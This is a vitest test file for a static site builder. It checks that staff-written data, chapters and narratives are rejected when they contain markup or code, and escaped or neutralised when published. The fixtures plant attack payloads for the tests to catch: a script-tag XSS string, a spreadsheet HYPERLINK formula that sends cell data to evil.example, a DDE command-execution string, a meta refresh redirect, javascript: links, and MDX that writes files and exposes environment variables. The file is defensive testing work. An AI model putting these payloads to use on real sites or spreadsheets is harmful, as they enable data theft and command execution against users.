/**
 * Staff text is data, never code: markup in data files and code or markup in chapters and narratives is
 * refused before the build; what passes is escaped on the pages and in the feeds, and the CSV downloads
 * show formula-like text as text. Checked on copies of the county fixture (generic behaviour).
 */
import { describe, expect, it } from 'vitest';
import fs from 'node:fs';
import path from 'node:path';
import { parse } from 'node-html-parser';
import { parse as csvParse } from 'csv-parse/sync';
import { buildCopy, siteCopy } from '../helpers/build.ts';
import { FIXTURE_TODAY } from '../helpers/sites.ts';
import { pageFile, ROOT } from '../helpers/dist.ts';
import { loadSite } from '../../src/lib/data/load.ts';
import { buildContext } from '../../src/lib/build/context.ts';
import { formatProblem } from '../../src/lib/messages/problem.ts';

const SCRIPT = '<script>alert("injected")</script>';
const FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"查看")';

describe('staff text is data, never code', () => {
  it('refuses markup in data and code or markup in chapters and narratives before anything is built', () => {
    const copy = siteCopy('county');
    const plan = `plans/${copy.plan}`;
    const marker = path.join(path.dirname(copy.dataDir), 'written-by-mdx');
    const ind = copy.read(`${plan}/indicators.json`);
    ind.indicators[0].definition.en = `Definition ${SCRIPT}`;
    copy.write(`${plan}/indicators.json`, ind);
    const progress = copy.read(`${plan}/progress/2027.json`);
    progress.observations[0].source.title = `公报\u202E${SCRIPT}`;
    copy.write(`${plan}/progress/2027.json`, progress);
    // A narrative that would write a file and publish the environment, and a chapter with raw HTML.
    const reports = path.join(copy.planContent, 'reports');
    const narrative = (body: string) => `---\nyear: 2027\npublished: 2028-06-01\n---\n\n${body}\n`;
    fs.mkdirSync(path.join(reports, 'zh'), { recursive: true });
    fs.mkdirSync(path.join(reports, 'en'), { recursive: true });
    fs.writeFileSync(
      path.join(reports, 'zh/2027.mdx'),
      narrative(`import fs from 'node:fs'\n\n{fs.writeFileSync(${JSON.stringify(marker)}, 'x')}\n\n家目录：{process.env.HOME}`),
    );
    fs.writeFileSync(path.join(reports, 'en/2027.mdx'), narrative('export const x = 1\n\nText.'));
    const chapter = path.join(copy.planContent, 'zh/chapter-1.mdx');
    fs.appendFileSync(
      chapter,
      '\n<meta httpEquiv="refresh" content="0;url=https://evil.example/" />\n\n<script>alert(1)</script>\n\n[点此](javascript:alert(1))\n',
    );

    const build = buildCopy(copy);
    expect(build.ok).toBe(false);
    const out = build.output;
    expect(out).toMatch(/indicators\.json:\d+ → indicators\[0\]\.definition\.en: must be plain text without "<" or ">"/);
    expect(out).toMatch(/progress\/2027\.json:\d+ → observations\[0\]\.source\.title: contains an invisible or control character \(U\+202E/);
    expect(out).toMatch(/reports\/zh\/2027\.mdx:6: import and export lines are not allowed/);
    expect(out).toMatch(/reports\/zh\/2027\.mdx:8: curly braces/);
    expect(out).toMatch(/reports\/zh\/2027\.mdx:10: curly braces/);
    expect(out).toMatch(/reports\/en\/2027\.mdx:6: import and export lines are not allowed/);
    expect(out).toMatch(/zh\/chapter-1\.mdx:\d+: the element <meta> is not allowed here/);
    expect(out).toMatch(/zh\/chapter-1\.mdx:\d+: the element <script> is not allowed here/);
    expect(out).toMatch(/zh\/chapter-1\.mdx:\d+: links must start with https:\/\//);
    // Refused before anything ran or was written: no file from the narrative's code, no output folder.
    expect(fs.existsSync(marker)).toBe(false);
    expect(fs.existsSync(build.outDir)).toBe(false);
    copy.remove();
  });

  it('publishes allowed text inert: escaped on pages and in feeds, formulas shown as text in the downloads', () => {
    const copy = siteCopy('county');
    const plan = `plans/${copy.plan}`;
    const ind = copy.read(`${plan}/indicators.json`);
    const first = ind.indicators[0];
    first.name.en = 'PM2.5 "fine" particles & dust';
    copy.write(`${plan}/indicators.json`, ind);
    const progress = copy.read(`${plan}/progress/2027.json`);
    progress.observations[0].source.title = FORMULA;
    progress.observations[1].source.publisher = '@SUM(1+1)*cmd|" /C calc"!A0';
    progress.observations[2].note = { zh: '-2+3', en: '+cmd' };
    copy.write(`${plan}/progress/2027.json`, progress);

    const build = buildCopy(copy);
    expect(build.ok, build.output).toBe(true);
    const out = build.outDir;
    const html = fs.readFileSync(pageFile(`/en/${copy.plan}/indicators/${first.id}/`, out), 'utf8');
    expect(parse(html).querySelector('h1')!.textContent).toContain('PM2.5 "fine" particles & dust');
    expect(html).toMatch(/PM2\.5 (&quot;|&#34;|")fine(&quot;|&#34;|") particles (&amp;|&#38;) dust/);
    for (const feed of [`${copy.plan}/feed.xml`, `en/${copy.plan}/feed.xml`]) {
      expect(() => parse(fs.readFileSync(path.join(out, feed), 'utf8'))).not.toThrow();
    }

    // Every cell a spreadsheet would run as a formula starts with an apostrophe; numbers stay numbers.
    const csv = fs.readFileSync(path.join(out, copy.plan, 'data/observations.csv'), 'utf8');
    const rows = csvParse(csv.replace(/^\uFEFF/, ''), { columns: true }) as Record<string, string>[];
    const cells = rows.flatMap((r) => Object.values(r));
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-?\d+(\.\d+)?$/.test(c))).toEqual([]);
    expect(cells).toContain(`'${FORMULA}`);
    expect(cells).toContain(`'@SUM(1+1)*cmd|" /C calc"!A0`);
    expect(cells).toContain("'-2+3");
    expect(cells).toContain("'+cmd");
    expect(rows.every((r) => /^-?\d+(\.\d+)?$|^(met|not-met)$/.test(r.value!))).toBe(true);
    const perIndicator = fs.readFileSync(path.join(out, copy.plan, `data/indicators/${progress.observations[0].indicator}.csv`), 'utf8');
    expect(perIndicator).toContain(`'${FORMULA.replace(/"/g, '""')}`);
    expect(perIndicator).not.toMatch(/(^|,)"?=HYPERLINK/m);
    copy.remove();
  });

  it('rejects javascript: and other non-http links in sources', () => {
    const copy = siteCopy('county');
    const file = `plans/${copy.plan}/progress/2027.json`;
    const progress = copy.read(file);
    progress.observations[0].source.url = 'javascript:alert(1)';
    copy.write(file, progress);
    const { problems } = loadSite(buildContext({ DATA_DIR: copy.dataDir, CONTENT_DIR: copy.contentDir, SITE_TODAY: FIXTURE_TODAY }, ROOT));
    expect(problems.map(formatProblem).join('\n')).toMatch(/observations\[0\]\.source\.url: expected an http\(s\) URL \(found "javascript:alert\(1\)"\)/);
    copy.remove();
  });
});
